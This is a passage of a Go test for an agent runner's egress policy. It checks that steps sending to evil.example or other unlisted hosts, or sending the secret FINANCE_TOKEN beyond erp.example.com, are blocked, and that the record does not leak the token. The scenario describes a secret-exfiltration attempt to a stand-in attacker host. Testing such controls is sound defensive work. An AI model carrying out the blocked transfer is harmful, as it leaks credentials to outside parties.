	e.Policy.BindURLs(map[string]string{"HOOK_URL": "https://hooks.example.net/T1/B2"})
	rec := ex.Run(t.Context(), compilePlan(t, doc), e)
	want := []struct {
		state  runrecord.State
		reason runrecord.Reason
		says   string
	}{
		{runrecord.Succeeded, "", ""},
		{runrecord.Failed, runrecord.ReasonDestination, "not sent: evil.example is outside the egress list of agent Invoices (agt_1), which allows erp.example.com, hooks.example.net; secret FINANCE_TOKEN may be sent only to erp.example.com; evil.example is not one of its destinations"},
		{runrecord.Failed, runrecord.ReasonDestination, "not sent: secret FINANCE_TOKEN may be sent only to erp.example.com; hooks.example.net is not one of its destinations"},
		{runrecord.Succeeded, "", ""},
		{runrecord.Failed, runrecord.ReasonDestination, "not sent: elsewhere.example is outside the egress list"},
	}
	for i, w := range want {
		s := rec.Steps[i]
		if s.State != w.state || s.Reason != w.reason || !strings.Contains(s.Error, w.says) {
			t.Errorf("step %d: %s %s %q, want %s %s %q", i, s.State, s.Reason, s.Error, w.state, w.reason, w.says)
		}
	}
	if n := rv.hits.Load(); n != 2 {
		t.Errorf("the receiver got %d requests, want 2 (steps 0 and 3)", n)
	}
	if js := recordJSON(t, rec); strings.Contains(js, "fin-token-4242") {
		t.Errorf("the record holds the secret: %s", js)
	}
}
